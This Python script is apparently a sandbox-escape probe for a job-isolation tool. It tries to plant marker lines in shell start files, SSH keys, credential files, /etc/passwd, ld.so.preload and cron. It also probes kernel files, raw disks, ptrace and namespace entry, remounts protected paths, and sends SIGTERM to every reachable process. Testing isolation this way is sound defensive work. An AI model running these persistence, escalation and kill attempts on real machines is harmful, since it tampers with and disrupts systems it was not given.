"""A hostile task that tries to change what the server, the machine and its user obey, and to end
their processes. It prints one line of JSON for each attempt.

What an attempt writes contains MARK: a write may succeed in a folder of the job's own, so the test
looks outside for the mark. HUNT names the paths and processes of this machine.
"""

import contextlib
import ctypes
import glob
import json
import os
import signal
import socket
import stat
import subprocess
import sys
from collections.abc import Callable, Iterator
from typing import Any

HUNT: dict[str, Any] = json.loads(os.environ["HUNT"])
MARK, HOME = HUNT["mark"], HUNT["home"]
VISIBLE = [path for path in HUNT["paths"] if os.path.exists(path)]  # before this job makes any
LIBC = ctypes.CDLL(None, use_errno=True)
# Start files, units and settings, whether they exist or not, in a home folder.
START_FILES = (
    *(".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".bash_aliases", ".profile"),
    *(".zshenv", ".zprofile", ".zshrc", ".zlogin", ".config/fish/config.fish", ".kshrc", ".cshrc"),
    *(".ssh/authorized_keys", ".ssh/rc", ".ssh/environment", ".ssh/config", ".pam_environment"),
    *(".xprofile", ".xsessionrc", ".inputrc", ".tmux.conf", ".vimrc", ".gdbinit", ".netrc"),
    *(".config/systemd/user/x.service", ".config/systemd/user/default.target.wants/x.service"),
    *(".local/share/systemd/user/x.service", ".config/environment.d/x.conf"),
    *(".config/autostart/x.desktop", ".local/share/dbus-1/services/x.service"),
    *(".local/bin/git", "bin/ssh", ".local/share/applications/x.desktop"),
    # names without a dot: entries of the home folder, which a git repository could also be, that
    # shells, servers, languages and tools obey, or that a start file names
    *("config", "HEAD", "objects/info/alternates", "refs/x", "hooks/post-checkout", "Makefile"),
    *("node_modules/x/index.js", "R/x", "perl5/x.pm", "public_html/x.cgi", "Desktop/x.desktop"),
    *("sitecustomize.py", "json/__init__.py", "pip/__main__.py", "conftest.py", "package.json"),
    *("__pycache__/x.pyc", "miniconda3/etc/profile.d/conda.sh", "tools/env.sh", "lib/libc.so.6"),
    *(
        ".gitconfig",
        ".config/git/config",
        ".config/pip/pip.conf",
        ".pip/pip.conf",
        ".pydistutils.cfg",
    ),
    *(".config/uv/uv.toml", ".npmrc", ".condarc", ".docker/config.json", ".kube/config"),
    *(".aws/config", ".aws/credentials", ".config/gcloud/active_config", ".azure/config"),
    *(".oci/config", ".config/cavvy/settings.toml", ".config/cavvy/token", ".forward"),
    *(".ipython/profile_default/startup/x.py", ".jupyter/jupyter_server_config.py"),
    ".config/containers/containers.conf",
    f".local/lib/python3.{sys.version_info[1]}/site-packages/usercustomize.py",
    f".local/lib/python3.{sys.version_info[1]}/site-packages/x.pth",
)
SYSTEM_FILES = (
    *(
        "/etc/systemd/system/x.service",
        "/run/systemd/system/x.service",
        "/usr/lib/systemd/system/x",
    ),
    *("/etc/cron.d/x", "/etc/crontab", "/var/spool/cron/crontabs/root", "/var/spool/cron/root"),
    *("/var/spool/cron/atjobs/x", "/etc/cron.daily/x", "/etc/anacrontab", "/etc/profile"),
    *("/etc/profile.d/x.sh", "/etc/bash.bashrc", "/etc/environment", "/etc/zsh/zshenv"),
    *("/etc/ld.so.preload", "/etc/ld.so.conf.d/x.conf", "/etc/sudoers.d/x", "/etc/passwd"),
    *("/etc/pam.d/x", "/etc/ssh/sshd_config.d/x.conf", "/etc/rc.local", "/etc/gitconfig"),
    *("/etc/pip.conf", "/etc/modprobe.d/x.conf", "/etc/udev/rules.d/x.rules", "/etc/sysctl.d/x"),
    *("/usr/bin/git", "/usr/bin/python3", "/bin/sh", "/usr/local/bin/ssh", "/usr/sbin/x"),
    *("/lib/x", "/boot/x", "/root/.bashrc", "/root/.ssh/authorized_keys", "/opt/x", "/x"),
    *("/etc/cavvy/settings.toml", "/run/udev/rules.d/x.rules", "/etc/init.d/x"),
)
KERNEL_FILES = (
    *("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug"),
    *("/proc/sys/fs/binfmt_misc/register", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger"),
    *(
        "/proc/sys/kernel/yama/ptrace_scope",
        "/proc/sys/kernel/sysrq",
        "/proc/irq/default_smp_affinity",
    ),
    *(
        "/sys/kernel/uevent_helper",
        "/sys/kernel/profiling",
        "/sys/power/state",
        "/sys/kernel/mm/ksm/run",
    ),
)
DEVICES = ("/dev/mem", "/dev/kmem", "/dev/port", "/dev/uinput", "/dev/loop-control", "/dev/tty1")


def append(path: str) -> bool:
    with contextlib.suppress(OSError):
        os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "a") as file:
        file.write(f"\n# {MARK}\n")
    return False  # the test looks outside


def replace(path: str) -> bool:
    """Put another file in the place of this one."""
    fresh, before = f"{path}.{os.getpid()}", ""
    with contextlib.suppress(OSError), open(path) as file:
        before = file.read()
    with open(fresh, "w") as file:
        file.write(f"{before}\n# {MARK}\n")
    with contextlib.suppress(OSError):
        os.chmod(fresh, os.stat(path).st_mode)
    try:
        os.rename(fresh, path)
    except OSError:
        os.unlink(fresh)
        raise
    return False


def swap(path: str) -> bool:
    """Rename every folder above the path, after which this job could put its own in the place. The
    folder is renamed back. Folders of a /tmp that is only this job's own do not count."""
    done = False
    tmp = os.stat("/tmp")
    own_tmp = "tmp" in HUNT and [tmp.st_dev, tmp.st_ino] != HUNT["tmp"]
    above = os.path.dirname(path)
    while above != "/":
        if own_tmp and above.startswith("/tmp/"):
            break
        with contextlib.suppress(OSError):
            os.rename(above, f"{above}-{MARK}")
            os.rename(f"{above}-{MARK}", above)
            done = True
        above = os.path.dirname(above)
    return done


def opens(path: str) -> bool:
    """Open for writing, but write nothing: these files act at once."""
    os.close(os.open(path, os.O_WRONLY))
    return True


def reads_device(path: str) -> bool:
    """Whether this is still the device, and can be opened."""
    kind = os.stat(path)
    if stat.S_ISCHR(kind.st_mode) and os.major(kind.st_rdev) == 1 and os.minor(kind.st_rdev) == 3:
        return False  # /dev/null
    os.close(os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY))
    return True


def connect(path: str) -> bool:
    with socket.socket(socket.AF_UNIX) as line:
        line.settimeout(3)
        line.connect(path)
    return True


def runs(*argv: str, text: str = "") -> bool:
    done = subprocess.run(argv, input=text, capture_output=True, text=True, timeout=30)
    return done.returncode == 0


def trace(pid: int) -> bool:
    if LIBC.ptrace(0x4206, pid, 0, 0) != 0:
        return False
    LIBC.ptrace(17, pid, 0, 0)
    return True


def find_foreign() -> list[int]:
    """Processes outside of this job that it can see."""
    own = f"CAVVY_GANG={os.environ['CAVVY_GANG']}".encode()
    found = []
    for path in glob.glob("/proc/[0-9]*"):
        with contextlib.suppress(OSError):
            with open(f"{path}/cmdline", "rb") as file:
                program = file.read()
            with open(f"{path}/environ", "rb") as file:
                foreign = own not in file.read()
            if foreign and any(name.encode() in program for name in HUNT["commands"]):
                found.append(int(path[6:]))
    return found


def list_attempts() -> Iterator[tuple[str, Callable[[], bool]]]:
    paths = [f"{HOME}/{name}" for name in START_FILES] + [*SYSTEM_FILES, *HUNT["paths"]]
    for path in paths:
        yield f"append to {path}", lambda path=path: append(path)
        yield f"replace {path}", lambda path=path: replace(path)
    for path in VISIBLE:
        yield f"swap a folder above {path}", lambda path=path: swap(path)
    for path in KERNEL_FILES:
        yield f"open {path}", lambda path=path: opens(path)
    for pattern in (
        "release_agent",
        "cgroup.procs",
        "cgroup.kill",
        "cgroup.freeze",
        "*/cgroup.procs",
    ):
        for path in [
            *glob.glob(f"/sys/fs/cgroup/{pattern}"),
            *glob.glob(f"/sys/fs/cgroup/*/{pattern}"),
        ]:
            yield f"open {path}", lambda path=path: opens(path)
    disks = [path for path in glob.glob("/dev/*") if stat.S_ISBLK(os.stat(path).st_mode)] + [
        "/dev/sda"
    ]
    for path in (*DEVICES, *disks):
        yield f"device {path}", lambda path=path: reads_device(path)
    for path in HUNT["sockets"]:
        yield f"connect to {path}", lambda path=path: connect(path)
    for pid in HUNT["pids"]:
        yield f"signal {pid}", lambda pid=pid: os.kill(pid, 0) is None
        yield f"trace {pid}", lambda pid=pid: trace(pid)
        yield f"folder of {pid}", lambda pid=pid: bool(os.listdir(f"/proc/{pid}/root/"))
    yield "processes seen", lambda: bool(find_foreign())
    yield "processes ended", end_everything
    yield from list_escapes()


def end_everything() -> bool:
    """Send SIGTERM to every process that it may, as `kill -- -1` does."""
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGTERM)
    return False  # the test looks whether the server lives


def list_escapes() -> Iterator[tuple[str, Callable[[], bool]]]:
    """Attempts to undo the protection, each with a write that shows whether it worked."""
    target = HUNT["paths"][0]
    write = f"echo '# {MARK}' >> {target}"
    folder = os.path.dirname(target)
    for flags in ("", "-Urm") if target in VISIBLE else ():
        inside = ["unshare", *flags.split()] if flags else ["env"]
        for place in (target, folder, os.path.dirname(folder), HOME):
            yield (
                f"{flags} unmount {place}",
                lambda i=inside, p=place: runs(*i, "sh", "-c", f"umount {p} && {write}"),
            )
            yield (
                f"{flags} remount {place}",
                lambda i=inside, p=place: runs(
                    *i, "sh", "-c", f"mount -o remount,bind,rw {p} && {write}"
                ),
            )
    core = "/proc/sys/kernel/core_pattern"
    yield (
        "another /proc",
        lambda: (
            runs("unshare", "-Urpfm", "--mount-proc", "sh", "-c", f": >> {core} && test -w {core}")
            and os.getuid() == 0
        ),
    )
    yield (
        "another /sys",
        lambda: runs(
            "unshare", "-Urmn", "sh", "-c", "mount -t sysfs s /mnt && : > /mnt/kernel/profiling"
        ),
    )
    yield "control groups", lambda: runs("unshare", "-UrmC", "mount", "-t", "cgroup2", "s", "/mnt")
    yield (
        "the disk",
        lambda: runs("mknod", "disk", "b", "259", "0") or runs("mknod", "d", "b", "8", "0"),
    )
    yield (
        "root by /proc",
        lambda: bool(os.listdir("/proc/1/root/")) and append(f"/proc/1/root{target}"),
    )
    yield "namespaces of others", lambda: any(enters(pid) for pid in (1, *HUNT["pids"]))
    yield "link to the file", lambda: os.link(target, f"stolen-{os.getpid()}") is None
    yield "crontab", lambda: runs("crontab", "-", text=f"* * * * * true {MARK}\n")
    yield "at", lambda: runs("at", "now + 1 hour", text=f"true {MARK}\n")
    yield "systemd-run", lambda: runs("systemd-run", "--user", "true")
    yield "systemd-run as root", lambda: runs("systemd-run", "true")
    yield "sudo", lambda: runs("sudo", "-n", "true")
    yield "docker", lambda: runs("docker", "ps")
    yield "module", lambda: runs("modprobe", "dummy")


def enters(pid: int) -> bool:
    fd = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
    return bool(LIBC.setns(fd, 0) == 0)


def main() -> None:
    for name, attempt in list_attempts():
        try:
            done, why = bool(attempt()), ""
        except Exception as error:  # noqa: BLE001 - every failure is a defence
            done, why = False, f"{type(error).__name__}: {error}"
        print(json.dumps({"attempt": name, "done": done, "why": why}), flush=True)
    print("all tried", flush=True)


if __name__ == "__main__":
    main()
